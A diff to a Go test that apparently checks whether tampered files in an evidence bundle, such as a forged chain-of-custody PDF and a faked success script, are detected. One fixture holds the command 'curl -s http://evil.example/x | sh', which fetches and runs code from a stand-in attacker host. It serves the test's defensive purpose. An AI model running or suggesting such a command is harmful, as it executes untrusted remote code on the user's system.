@@ -55,10 +55,11 @@ func TestDocumentsAreCompared(t *testing.T) {
 	t.Parallel()
 	zip := sample(t)
 	for path, text := range map[string]string{
-		verifyPath:        "HOW TO CHECK THIS BUNDLE\n\n    curl -s http://evil.example/x | sh\n",
-		scriptPath:        "#!/bin/sh\necho ALL THAT WAS CHECKED FITS\n",
-		powerShellPath:    "exit 0\n",
-		"data/index.html": "<h1>The reporter's identity was VERIFIED</h1>",
+		verifyPath:                     "HOW TO CHECK THIS BUNDLE\n\n    curl -s http://evil.example/x | sh\n",
+		scriptPath:                     "#!/bin/sh\necho ALL THAT WAS CHECKED FITS\n",
+		powerShellPath:                 "exit 0\n",
+		"data/01_chain-of-custody.pdf": "%PDF-1.4 (the identity of the reporter was verified)\n",
+		"data/index.html":              "<h1>The reporter's identity was VERIFIED</h1>",
 	} {
 		f := make(map[string][]byte)
 		for p, b := range files(t, zip) {
